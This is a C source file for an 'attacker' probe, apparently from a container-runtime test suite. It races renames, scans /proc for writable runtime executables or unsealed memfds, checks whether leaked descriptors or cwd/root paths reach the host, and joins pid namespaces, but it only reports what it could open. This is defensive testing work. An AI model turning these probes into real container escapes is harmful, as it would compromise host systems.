/*
 * attacker: who looks for the moment in which a runtime is careless.
 *
 *   attacker swap A B        exchange two names with each other, all the time (a volume that two containers share)
 *   attacker watch MARKER    as a process of a container: look at every process that appears beside this one, through
 *                            /proc/PID/exe, cwd, root and each fd. MARKER is a path of the host's that the container has not
 *   attacker join PID        be careless: join the pid namespace of a process as what we are, and stay for a while
 *
 * The first two end with SIGTERM, and then write what they did as one JSON object on one line. Nothing is ever written to what an open
 * for writing reaches: that it could be opened is what is told.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { HELD = 64, ROUNDS = 200, SEALS = 0xf, GET_SEALS = 1034 };

static volatile sig_atomic_t over;

static void stop(int number)
{
	(void)number;
	over = 1;
}

static int swap(const char *a, const char *b)
{
	unsigned long long count = 0;

	while (!over) {
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)) {
			printf("{\"swaps\": %llu, \"err\": \"%s\"}\n", count, strerrorname_np(errno));
			return 1;
		}
		count++;
	}
	printf("{\"swaps\": %llu, \"err\": \"\"}\n", count);
	return 0;
}

/* ---- watch ---- */

static struct counts {
	unsigned long long looks, closed, own, memfd, foreign, unsealed, writable, reached;
} seen;

static char witness[256]; /* the first thing that should not have been there */

static void tell(const char *what, const char *target)
{
	if (!witness[0])
		snprintf(witness, sizeof witness, "%s: %.200s", what, target);
}

/* Programs whose files are the container's own: what a process is once the runtime is done with it. */
static struct stat own_files[3];

static bool is_own(const struct stat *st)
{
	for (size_t i = 0; i < sizeof own_files / sizeof *own_files; i++)
		if (own_files[i].st_dev == st->st_dev && own_files[i].st_ino == st->st_ino)
			return true;
	return false;
}

/* Executables that somebody ran: while they run the kernel refuses to open them for writing, so that we try again. */
static struct { int fd, rounds; char name[64]; } held[HELD];

static void hold(int fd, const char *name)
{
	static int next;
	int i = next++ % HELD;

	if (held[i].rounds)
		close(held[i].fd);
	held[i].fd = fd;
	held[i].rounds = ROUNDS;
	snprintf(held[i].name, sizeof held[i].name, "%.63s", name);
}

static void try_held(void)
{
	for (int i = 0; i < HELD; i++) {
		char path[64];
		int fd;
		if (!held[i].rounds)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			seen.writable++;
			tell("open for writing", held[i].name);
			close(fd);
		}
		if (--held[i].rounds == 0)
			close(held[i].fd);
	}
}

static void look_at_exe(const char *pid)
{
	char path[64], target[256];
	struct stat st;
	ssize_t n;
	int fd, seals;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	n = readlink(path, target, sizeof target - 1);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || n < 0) {
		if (errno == EACCES || errno == EPERM)
			seen.closed++;
		if (fd >= 0)
			close(fd);
		return;
	}
	target[n] = 0;
	if (fstat(fd, &st) == 0 && is_own(&st)) {
		seen.own++;
		close(fd);
		return;
	}
	seals = -1;
	if (!strncmp(target, "/memfd:", 7)) {
		int readable;
		seen.memfd++;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd); /* that very file: the process may be another program by now */
		readable = open(path, O_RDONLY | O_CLOEXEC);
		if (readable >= 0) {
			seals = fcntl(readable, GET_SEALS);
			close(readable);
			if (seals < 0 || (seals & SEALS) != SEALS) {
				seen.unsealed++;
				tell("a memfd without seals", target);
			}
		}
		if (seals >= 0 && (seals & SEALS) == SEALS) { /* may be opened for writing, but takes none */
			close(fd);
			return;
		}
	} else {
		seen.foreign++;
	}
	hold(fd, target);
}

static const char *marker;

/* Through a directory of the host's, however deep, and the way up from there. */
static void reach(const char *pid, const char *what)
{
	char path[4096], link[64], target[256];
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%s/%s/../../../../../../../../../../../..%s", pid, what, marker);
	if (access(path, F_OK) == 0) {
		seen.reached++;
		snprintf(link, sizeof link, "/proc/%s/%s", pid, what);
		n = readlink(link, target, sizeof target - 1);
		target[n < 0 ? 0 : n] = 0;
		tell(what, target);
	}
}

static void look_at_descriptors(const char *pid)
{
	char path[64], what[300];
	struct dirent *entry;
	DIR *dir;

	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir)))
		if (entry->d_name[0] != '.') {
			snprintf(what, sizeof what, "fd/%s", entry->d_name);
			reach(pid, what);
		}
	if (dir)
		closedir(dir);
}

static int watch(const char *path)
{
	char self[16];

	marker = path;
	snprintf(self, sizeof self, "%d", getpid());
	stat("/attacker", &own_files[0]);
	stat("/bin/busybox", &own_files[1]);
	stat("/probe", &own_files[2]);
	if (access(path, F_OK) == 0) {
		printf("{\"err\": \"the marker is in the container\"}\n");
		return 1;
	}
	puts("watching");
	fflush(stdout);
	while (!over) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;
		while (dir && (entry = readdir(dir))) {
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || !strcmp(entry->d_name, self))
				continue;
			seen.looks++;
			look_at_exe(entry->d_name);
			reach(entry->d_name, "cwd");
			reach(entry->d_name, "root");
			look_at_descriptors(entry->d_name);
		}
		if (dir)
			closedir(dir);
		try_held();
	}
	printf("{\"looks\": %llu, \"closed\": %llu, \"own\": %llu, \"memfd\": %llu, \"foreign\": %llu, \"unsealed\": %llu, "
	       "\"writable\": %llu, \"reached\": %llu, \"witness\": \"%s\", \"err\": \"\"}\n",
	       seen.looks, seen.closed, seen.own, seen.memfd, seen.foreign, seen.unsealed, seen.writable, seen.reached,
	       witness);
	return 0;
}

static int join(const char *pid)
{
	struct timespec while_ = {0, 100000000};
	char path[64];
	int fd, status;

	snprintf(path, sizeof path, "/proc/%s/ns/pid", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || setns(fd, CLONE_NEWPID)) {
		perror(path);
		return 1;
	}
	if (fork() == 0) {
		nanosleep(&while_, NULL);
		_exit(0);
	}
	return wait(&status) < 0 || status;
}

int main(int argc, char **argv)
{
	signal(SIGTERM, stop);
	if (argc == 4 && !strcmp(argv[1], "swap"))
		return swap(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "watch"))
		return watch(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "join"))
		return join(argv[2]);
	fputs("attacker: swap A B | watch MARKER | join PID\n", stderr);
	return 123;
}
